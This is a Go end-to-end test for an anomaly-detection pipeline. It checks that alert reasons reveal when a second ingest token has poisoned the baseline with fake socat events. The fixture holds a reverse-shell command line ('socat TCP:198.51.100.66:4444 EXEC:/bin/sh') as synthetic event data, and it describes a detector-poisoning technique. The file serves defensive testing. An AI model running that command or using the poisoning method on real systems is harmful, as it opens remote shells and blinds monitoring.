package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/rarenet/rarenet/e2e/history"
	"github.com/rarenet/rarenet/services/rarenet"
	"github.com/rarenet/rarenet/services/scorer"
	"github.com/rarenet/rarenet/services/windower"
	"github.com/rarenet/rarenet/shared/control"
	"github.com/rarenet/rarenet/shared/record"
	"github.com/rarenet/rarenet/shared/stream"
	"github.com/rarenet/rarenet/shared/tokens"
)

// Poisoning, as issue 16 tells it: source fleet-shipper (one HTTP token) reports a fleet of
// six hosts for five days; from the second day source web-shipper-2 (another token, allowed
// the same hosts, which it never reported before) posts fake socat connects on every host;
// on the fifth day fleet-shipper reports a real socat connect on web-03. The pipeline runs
// as `rarenet run --http-listen --http-tokens` does, on its embedded nats-server, with
// buckets closed by event time; the input is posted in time order through the real HTTP
// input, and an end-of-input marker flushes the stages.
//
// What the analyst must see is the fake history. Posted once a day for three days, the fakes
// leave socat rare: the real connect signals, and its reason says "first seen 3 days ago,
// only from source web-shipper-2, which had never reported web-03 before". Posted in every
// bucket for three days, the fakes make socat ordinary in the faithful model (the poisoning
// works: the real connect makes no record at all), and what is left is the first fake's
// signal, whose reason says "first seen from source web-shipper-2, which had never reported
// those hosts before".
func TestPoisonedHistoryShowsInTheReason(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole pipeline over five days of a fleet, twice; skipped with -short")
	}
	start := time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC)
	realAt := start.Add(4*24*time.Hour + 3*time.Hour + 37*time.Minute)
	realBucket := realAt.Truncate(15 * time.Minute)
	firstFake := start.Add(24*time.Hour + 3*time.Hour)
	newHosts := "on web-01, web-02, web-03, web-04, web-05 and 1 more first seen from source web-shipper-2, which had never reported those hosts before"
	onlyFrom := "first seen 3 days ago, only from source web-shipper-2, which had never reported web-03 before"

	t.Run("once a day", func(t *testing.T) {
		var fakes []time.Time
		for day := 1; day <= 3; day++ {
			fakes = append(fakes, firstFake.Add(time.Duration(day-1)*24*time.Hour+7*time.Minute))
		}
		reasons, records := poison(t, 4, start, fakes, realAt)
		if !strings.Contains(reasons[firstFake], newHosts) {
			t.Errorf("the first fake socat's signal (bucket %s) has reason %q, want it to say %q", firstFake.Format(time.RFC3339), reasons[firstFake], newHosts)
		}
		// The same on one partition: what the history says does not depend on how the
		// values are spread.
		if again, _ := poison(t, 1, start, fakes, realAt); !maps.Equal(again, reasons) {
			t.Errorf("on one partition, socat's signals say\n%v\nand on four\n%v", again, reasons)
		}
		if !strings.Contains(reasons[realBucket], onlyFrom) {
			t.Errorf("the real socat's signal (bucket %s) has reason %q, want it to say %q", realBucket.Format(time.RFC3339), reasons[realBucket], onlyFrom)
		}
		r := records[realBucket]
		if r == nil {
			t.Fatalf("no enriched record of the real socat (bucket %s)", realBucket.Format(time.RFC3339))
		}
		if h := r.Context.History; h == nil || h.OnlySource != "web-shipper-2" || !slices.Equal(h.Sources, []string{"web-shipper-2"}) ||
			len(h.Hosts) != 1 || !slices.Equal(h.Hosts[0].FirstSources, []string{"web-shipper-2"}) || !slices.Equal(h.Hosts[0].NewSources, []string{"web-shipper-2"}) {
			t.Errorf("the real socat's history %+v", h)
		}
	})

	t.Run("every bucket", func(t *testing.T) {
		var fakes []time.Time
		for at := firstFake; at.Before(firstFake.Add(72 * time.Hour)); at = at.Add(15 * time.Minute) {
			fakes = append(fakes, at.Add(7*time.Minute))
		}
		reasons, records := poison(t, 4, start, fakes, realAt)
		if !strings.Contains(reasons[firstFake], newHosts) {
			t.Errorf("the first fake socat's signal (bucket %s) has reason %q, want it to say %q", firstFake.Format(time.RFC3339), reasons[firstFake], newHosts)
		}
		if r, ok := records[realBucket]; ok {
			t.Errorf("the real socat made a record after three days of fakes in every bucket (score %.1f): the poisoning did not work as the test means it to", r.RecordScore)
		}
	})
}

// poison runs the pipeline, on so many partitions, over the fleet's five days, fake socat connects from the attacker's
// token on every host at fakes, and the real one from the fleet's token at realAt; it returns
// the reasons of socat's signals and its enriched records, by bucket.
func poison(t *testing.T, partitions int, start time.Time, fakes []time.Time, realAt time.Time) (map[time.Time]string, map[time.Time]*record.Record) {
	t.Helper()
	began := time.Now()
	dir := t.TempDir()
	const fleetToken, attackerToken = "fleet-token-0123456789", "attacker-token-0123456789"
	tokenFile := filepath.Join(dir, "tokens")
	lines := "fleet-shipper " + tokens.Hash(fleetToken) + " web-*\nweb-shipper-2 " + tokens.Hash(attackerToken) + " web-*\n"
	if err := os.WriteFile(tokenFile, []byte(lines), 0o600); err != nil {
		t.Fatal(err)
	}

	natsPort, httpPort := freePort(t), freePort(t)
	o := defaultOptions(partitions)
	o.Listen = "127.0.0.1:" + strconv.Itoa(natsPort)
	o.Scorer.Clock = scorer.ClockWatermark
	o.Windower.Clock = windower.ClockWatermark
	o.Ingest.HTTPListen = "127.0.0.1:" + strconv.Itoa(httpPort)
	o.Ingest.HTTP.Tokens = tokenFile
	o.Ingest.HTTP.MaxConcurrent = 4
	// The test posts the two sources' runs as fast as it can, hundreds of requests a second:
	// what it measures is the history, not the per-token request limit (--http-rate).
	o.Ingest.HTTP.Rate = 0
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	p, err := rarenet.Start(ctx, o, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	nc, err := nats.Connect("nats://127.0.0.1:" + strconv.Itoa(natsPort))
	if err != nil {
		t.Fatal(err)
	}
	defer nc.Close()
	statuses, err := nc.SubscribeSync(stream.StatusSubject(windower.Stage))
	if err != nil {
		t.Fatal(err)
	}
	signalsSub, err := nc.SubscribeSync(stream.SignalsSubject)
	if err != nil {
		t.Fatal(err)
	}
	enrichedSub, err := nc.SubscribeSync(stream.EnrichedSubject)
	if err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}

	// The input, in time order, each event with the token of its source.
	type sourced struct {
		history.Event
		token string
	}
	var input []sourced
	for _, e := range history.Events(history.Spec{Seed: 16, Start: start, Days: 5, Hosts: 6, Regulars: 12, PerBucket: 1}) {
		input = append(input, sourced{e, fleetToken})
	}
	socat := func(at time.Time, host string) history.Event {
		return history.Event{Time: at, Host: host, Name: "socat", Exe: "/usr/bin/socat", User: "root", PID: 7001,
			DestIP: "198.51.100.66", Port: 4444, Args: []string{"socat", "TCP:198.51.100.66:4444", "EXEC:/bin/sh"}, Cwd: "/root", Outcome: "success"}
	}
	for _, at := range fakes {
		for h := 1; h <= 6; h++ {
			input = append(input, sourced{socat(at, fmt.Sprintf("web-%02d", h)), attackerToken})
		}
	}
	input = append(input, sourced{socat(realAt, "web-03"), fleetToken})
	slices.SortStableFunc(input, func(a, b sourced) int { return a.Time.Compare(b.Time) })

	post := func(token string, events []history.Event) {
		t.Helper()
		var body bytes.Buffer
		if err := history.WriteECS(&body, events); err != nil {
			t.Fatal(err)
		}
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://127.0.0.1:"+strconv.Itoa(httpPort)+"/v1/events?format=ecs", &body)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+token)
		req.Header.Set("Content-Type", "application/x-ndjson")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != http.StatusAccepted {
			var b bytes.Buffer
			b.ReadFrom(resp.Body)
			t.Fatalf("POST of %d events = %d: %s", len(events), resp.StatusCode, b.String())
		}
	}
	requests := 0
	for i := 0; i < len(input); {
		j := i
		var run []history.Event
		for j < len(input) && input[j].token == input[i].token && len(run) < 2000 {
			run = append(run, input[j].Event)
			j++
		}
		post(input[i].token, run)
		requests++
		i = j
	}
	eof := control.Marker{Kind: control.KindEOF, Replay: "poison"}
	if err := nc.PublishMsg(eof.Msg(stream.RawSubject("control"))); err != nil {
		t.Fatal(err)
	}
	for {
		m, err := statuses.NextMsg(time.Until(deadlineOf(ctx)))
		if err != nil {
			t.Fatalf("no end of input from the windower: %v", err)
		}
		var s windower.Status
		if json.Unmarshal(m.Data, &s) == nil && s.EOF && s.Replay == "poison" {
			break
		}
	}
	t.Logf("%v: %d events in %d requests through the pipeline", time.Since(began).Round(time.Millisecond), len(input), requests)

	// Every signal, and every enriched record of socat.
	reasons := map[time.Time]string{} // socat's signals by bucket
	var others []string
	for {
		m, err := signalsSub.NextMsg(2 * time.Second)
		if err != nil {
			break
		}
		var sig map[string]any
		if err := json.Unmarshal(m.Data, &sig); err != nil {
			t.Fatalf("signal is not JSON: %v", err)
		}
		reason, _ := sig["kibana.alert.reason"].(string)
		if sig["by_field_value"] != "socat" {
			others = append(others, reason)
			continue
		}
		at, _ := time.Parse(time.RFC3339Nano, sig["kibana.alert.original_time"].(string))
		reasons[at] = reason
	}
	records := map[time.Time]*record.Record{}
	for {
		m, err := enrichedSub.NextMsg(2 * time.Second)
		if err != nil {
			break
		}
		var r record.Record
		if json.Unmarshal(m.Data, &r) != nil || r.ByFieldValue != "socat" || r.Context == nil || r.Context.Why == nil {
			continue
		}
		records[r.BucketStart()] = &r
	}
	for _, at := range slices.SortedFunc(maps.Keys(records), time.Time.Compare) {
		if r := records[at]; r.RecordScore >= 50 || at.Equal(realAt.Truncate(15*time.Minute)) {
			t.Logf("socat record of %s: score %.1f: %s", at.Format(time.RFC3339), r.RecordScore, r.Context.Why.Text)
		}
	}
	for _, at := range slices.SortedFunc(maps.Keys(reasons), time.Time.Compare) {
		t.Logf("socat signal of %s: %s", at.Format(time.RFC3339), reasons[at])
	}
	if len(others) > 0 {
		t.Logf("signals of the fleet's own processes: %q", others)
	}
	return reasons, records
}

func deadlineOf(ctx context.Context) time.Time {
	d, _ := ctx.Deadline()
	return d
}
